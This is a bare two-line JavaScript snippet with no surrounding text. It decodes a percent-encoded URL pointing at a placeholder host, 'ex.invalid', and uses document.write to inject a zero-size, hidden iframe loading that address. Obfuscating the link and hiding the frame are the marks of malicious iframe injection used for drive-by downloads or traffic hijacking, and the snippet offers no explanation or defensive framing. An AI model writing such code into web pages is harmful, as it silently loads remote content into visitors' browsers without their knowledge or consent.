var u = unescape("%68%74%74%70%3a%2f%2f%65%78%2e%69%6e%76%61%6c%69%64%2f");
document.write("<iframe src='" + u + "' width=0 height=0 style='visibility:hidden'></iframe>");
